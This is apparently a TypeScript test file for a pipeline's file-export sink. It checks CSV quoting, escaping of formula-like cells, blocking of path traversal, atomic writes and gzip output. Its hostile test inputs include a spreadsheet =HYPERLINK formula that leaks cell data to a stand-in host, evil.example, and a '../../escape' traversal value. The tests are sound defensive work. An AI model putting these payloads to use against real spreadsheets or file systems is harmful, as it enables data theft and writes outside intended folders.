// Pins the `file` sink (SPEC §6) against real files and a real CSV parser:
// - CSV: a header row of the field names, RFC 4180 quoting and CRLF, and a hostile
//   value (=HYPERLINK(…), newlines, quotes, commas, non-ASCII, leading + - @ tab CR)
//   comes back from csv-parse exactly, formula-like cells prefixed with a single
//   quote (OWASP CSV injection) and real numbers left alone;
// - path templates: fields and UTC date parts, sanitised so nothing is written
//   outside the template's folder (a record with `../` or a missing field fails on
//   its own and is listed; the others are written), bad templates refused at load;
// - atomic: nothing under a final name before the end of the run; a run that does
//   not complete leaves neither final nor temp files;
// - more files than open writers: evicted writers reopen in append mode, one CSV
//   header per file, gzip members concatenated (what gunzip reads), rows in order;
// - a dry run writes nothing.

import t from 'tap';
import _ from 'highland';
import { readdirSync, readFileSync, existsSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import fileSink, { MAX_OPEN_FILES } from '../src/sinks/file.js';
import { createRunContext, settleRunEnd } from '../src/pipeline/context.js';
import { componentEvents, tallyRun } from '../src/pipeline/outcome.js';
import { configWith } from '../src/config/defaults.js';
import { newRecord, type PipelineRecord } from '../src/pipeline/types.js';

/** Every file under `dir`, relative, sorted (temp files included: they start with a dot). */
function listAll(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return (readdirSync(dir, { recursive: true, withFileTypes: true }) as import('node:fs').Dirent[])
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath ?? (e as unknown as { path: string }).path, e.name)))
    .sort();
}

async function runSink(options: Record<string, unknown>, records: PipelineRecord[], { complete = true, dryRun = false, beforeEnd = (_d: string[]) => {} } = {}) {
  const context = createRunContext({ config: configWith({}), dryRun });
  const self = componentEvents('file');
  const fn = await fileSink.create(options as never, context, self);
  const out = (await fn(_(records)).collect().toPromise(Promise)) as PipelineRecord[];
  beforeEnd([]);
  await settleRunEnd(context, complete);
  return { out, self, context };
}

const rowRecord = (row: Record<string, unknown>, recording: Record<string, unknown> = { id: String(row.id ?? 'r') }) => {
  const record = newRecord(recording);
  record.row = row;
  return record;
};

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+14165550100',
  '-2+3',
  '@SUM(A1:A2)',
  '\tTAB',
  '\rCR first',
  'line one\nline two\r\nline three',
  'she said "hi", then left',
  'Zoë, 日本語, émoji 🎧',
  'plain',
  '',
];

t.test('CSV: header, RFC 4180, CRLF, hostile values round-trip, formulas escaped', async (t) => {
  const dir = t.testdir();
  const records = HOSTILE.map((text, i) => rowRecord({ id: `r${i}`, text, negative: -5, flag: i % 2 === 0, nested: { a: [1, 'x'] }, nothing: null }));
  await runSink({ format: 'csv', path: path.join(dir, 'out.csv') }, records);
  const bytes = readFileSync(path.join(dir, 'out.csv'), 'utf8');
  t.ok(bytes.startsWith('id,text,negative,flag,nested,nothing\r\n'), 'a header row of the field names, CRLF');
  t.ok(bytes.endsWith('\r\n'));
  const rows = parse(bytes, { columns: true, relax_quotes: false }) as Array<Record<string, string>>;
  t.equal(rows.length, HOSTILE.length, 'newlines inside cells do not split rows');
  const formula = /^[=+\-@\t\r]/;
  rows.forEach((row, i) => {
    const text = HOSTILE[i]!;
    t.equal(row.text, formula.test(text) ? `'${text}` : text, `value ${JSON.stringify(text)}`);
    t.equal(row.negative, '-5', 'a real number is not escaped');
    t.equal(row.flag, String(i % 2 === 0));
    t.equal(row.nested, '{"a":[1,"x"]}', 'objects as JSON');
    t.equal(row.nothing, '', 'null is empty');
  });
  t.match(bytes, /"she said ""hi"", then left"/, 'quotes doubled inside a quoted cell');
});

t.test('paths: fields and UTC date parts; unsafe or missing values fail their record only', async (t) => {
  const dir = t.testdir();
  const rec = (id: string, tenant: unknown, startTime: unknown) => newRecord({ id, tenant, startTime });
  const records = [
    rec('a', 'Environment', '2015-09-01T23:30:00.000-0100'),
    rec('b', 'Tenant B/é', '2015-09-02T08:00:00Z'),
    rec('c', '../../escape', '2015-09-02T08:00:00Z'),
    rec('d', undefined, '2015-09-02T08:00:00Z'),
    rec('e', 'Environment', 'soon'),
    rec('f', 'CON', '2015-09-02T08:00:00Z'),
    rec('g', 'Environment', 1441180800000),
  ];
  const { out } = await runSink({ format: 'ndjson', path: path.join(dir, 'exports/{tenant}/{startTime:yyyy/MM/dd-HH}.ndjson') }, records);
  t.same(listAll(dir), ['exports/Environment/2015/09/02-00.ndjson', 'exports/Environment/2015/09/02-08.ndjson'], 'only safe values; 23:30 at -01:00 is 00:30 UTC');
  t.same(readFileSync(path.join(dir, 'exports/Environment/2015/09/02-00.ndjson'), 'utf8'), JSON.stringify(records[0]!.recording) + '\n');
  t.same(readFileSync(path.join(dir, 'exports/Environment/2015/09/02-08.ndjson'), 'utf8'), JSON.stringify(records[6]!.recording) + '\n', 'epoch ms is a time');
  t.same(out.map((r) => r.recording.id), ['a', 'b', 'c', 'd', 'e', 'f', 'g'], 'every record passes on');
  t.same(out.filter((r) => r.status === 'failed').map((r) => r.recording.id), ['b', 'c', 'd', 'e', 'f']);
  const totals = tallyRun(out);
  t.equal(totals.failed, 5);
  t.match(totals.failures.map((f) => f.message), [/separator/, /separator/, /no such field/, /needs a time .*"soon"/, /reserved device name/]);
});

t.test('a percent-encoded value stays one name', async (t) => {
  const dir = t.testdir();
  await runSink({ format: 'ndjson', path: path.join(dir, '{agent}.ndjson') }, [rowRecord({ agent: 'Zoë Smith:1' })]);
  t.same(listAll(dir), ['Zo%C3%AB%20Smith%3A1.ndjson']);
});

t.test('templates are checked at load', async (t) => {
  const check = (p: string) => fileSink.check!({ format: 'csv', path: p });
  t.same(check('exports/{startTime:yyyy/MM/dd}.csv'), []);
  t.same(check('/abs/{tenant}-{mediaFiles.type}.csv'), []);
  t.match(check('exports/{tenant'), [/without its "}"/]);
  t.match(check('exports/tenant}'), [/without its "{"/]);
  t.match(check('exports/{tenant}/../../x.csv'), [/"\.\." folder after its fixed folder|leaves its folder/]);
  t.match(check('exports/{startTime:yyyy/QQ}.csv'), [/time pattern "yyyy\/QQ"/]);
  t.match(check('exports/{startTime:dd..MM}.csv'), []);
  t.match(check('exports/{a..b}.csv'), [/not a field path/]);
  t.match(check('exports/{tenant}/'), [/names a folder/]);
});

t.test('nothing under a final name before the end; an incomplete run leaves no file at all', async (t) => {
  const dir = t.testdir();
  const records = [rowRecord({ id: 1, day: '2015-09-01' }), rowRecord({ id: 2, day: '2015-09-02' })];
  let during: string[] = [];
  await runSink({ format: 'csv', path: path.join(dir, '{day}.csv'), gzip: true }, records, { complete: false, beforeEnd: () => (during = listAll(dir)) });
  t.equal(during.length, 2, 'two temp files while the run is going');
  t.ok(during.every((f) => /^\.\d{4}-\d{2}-\d{2}\.csv\.[0-9a-f]+\.part$/.test(f)), `temp names: ${during.join(', ')}`);
  t.same(listAll(dir), [], 'no final and no temp file after the run stopped');
});

t.test('more files than open writers: reopened in append, one header each, gzip members, order kept', async (t) => {
  const dir = t.testdir();
  const days = MAX_OPEN_FILES + 8;
  const records: PipelineRecord[] = [];
  // Round robin over the days: every file is evicted and reopened several times.
  for (let round = 0; round < 3; round++) {
    for (let d = 0; d < days; d++) records.push(rowRecord({ day: `d${String(d).padStart(3, '0')}`, round, note: round === 1 ? '=1+1' : 'x,y' }));
  }
  await runSink({ format: 'csv', path: path.join(dir, '{day}.csv'), gzip: true }, records);
  const files = listAll(dir);
  t.equal(files.length, days);
  for (let d = 0; d < days; d++) {
    const day = `d${String(d).padStart(3, '0')}`;
    const text = gunzipSync(readFileSync(path.join(dir, `${day}.csv`))).toString('utf8');
    t.equal(text, `day,round,note\r\n${day},0,"x,y"\r\n${day},1,'=1+1\r\n${day},2,"x,y"\r\n`, `${day}.csv`);
  }
});

t.test('a dry run writes nothing', async (t) => {
  const dir = t.testdir();
  await runSink({ format: 'csv', path: path.join(dir, 'x/{id}.csv') }, [rowRecord({ id: 'a' })], { dryRun: true });
  t.same(listAll(dir), []);
});
